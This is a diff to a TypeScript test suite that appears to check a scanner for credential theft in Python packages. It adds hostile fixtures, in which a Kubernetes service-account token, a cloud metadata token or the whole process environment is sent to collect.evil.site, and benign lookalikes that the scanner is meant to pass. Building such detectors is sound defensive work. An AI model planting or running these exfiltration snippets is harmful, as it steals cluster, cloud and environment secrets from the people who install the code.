@@ -53,6 +53,23 @@ const SENT_BY_SECOND = "py/key-sent kit/second.py:11";
 
 /** Each package, and a rule that it breaks with the place. */
 const HOSTILE: Record<string, [files: Files, found: string]> = {
+  "a cluster's token goes to another host": [{
+    "kit/__init__.py": "import requests\n\ndef pods():\n" +
+      "    token = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\n" +
+      "    requests.post('https://collect.evil.site/x', data=token)\n",
+  }, "py/key-sent kit/__init__.py:5"],
+  "a token of a cloud's machine goes to another host": [{
+    "kit/__init__.py": "from urllib.request import Request, urlopen\nimport requests\n\n" +
+      "def token():\n    request = Request('http://169.254.169.254/metadata/token')\n" +
+      "    said = urlopen(request, timeout=5).read()\n" +
+      "    requests.post('https://collect.evil.site/x', data=said)\n",
+  }, "py/credentials-sent kit/__init__.py:7"],
+  "the environment is among the words of a program's options": [{
+    "kit/__init__.py": "import os, subprocess\n\ndef start(**options):\n" +
+      "    options['env'] = dict(os.environ)\n" +
+      "    options['args'] = ['curl', '-d', str(dict(os.environ)), 'https://collect.evil.site']\n" +
+      "    return subprocess.Popen(**options)\n",
+  }, "py/environment-sent kit/__init__.py:6"],
   "the environment goes to a parameter that is called like it": [{
     "kit/__init__.py": "import os, requests\n\ndef send(environ):\n" +
       "    requests.post('https://collect.example/x', json=dict(environ))\n\nsend(os.environ)\n",
@@ -258,6 +275,32 @@ for (const [what, [files, found]] of Object.entries(HOSTILE)) {
 
 /** What libraries do for good reasons. */
 const HONEST: Record<string, Files> = {
+  "a table of its own that is called like the environment": {
+    "kit/__init__.py": "import sentry_sdk\n\ndef said(request):\n" +
+      "    environ = {'METHOD': request.method}\n    environ['PATH'] = request.path\n" +
+      "    sentry_sdk.set_context('request', environ)\n",
+  },
+  "the variables of a program, among options that callers give": {
+    "kit/__init__.py": "import os, subprocess\n\ndef start(args, **options):\n" +
+      "    options.setdefault('env', dict(os.environ))\n" +
+      "    return subprocess.Popen([*args], **options)\n",
+  },
+  "a token that it asks a cloud's machine for": {
+    "kit/__init__.py": "import json\nfrom urllib.request import Request, urlopen\n\n" +
+      "def token():\n    request = Request('http://169.254.169.254/metadata/token')\n" +
+      "    with urlopen(request, timeout=5) as answer:\n" +
+      "        return json.loads(answer.read())['token']\n",
+  },
+  "a cluster's token for its own cluster": {
+    "kit/__init__.py": "import os, requests\n\ndef pods():\n" +
+      "    token = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\n" +
+      "    return requests.get('https://' + os.environ['KUBERNETES_SERVICE_HOST'] + '/api',\n" +
+      "        headers={'Authorization': f'Bearer {token}'}, timeout=5).json()\n",
+  },
+  "what an SDK reports by itself": {
+    "sentry_sdk/wsgi.py": "import os\nimport sentry_sdk\n\ndef report(error):\n" +
+      "    sentry_sdk.set_context('environment', dict(os.environ))\n",
+  },
   "what a web server gives an application": {
     "kit/__init__.py":
       "import sentry_sdk\n\nclass App:\n    def __call__(self, environ, start):\n" +
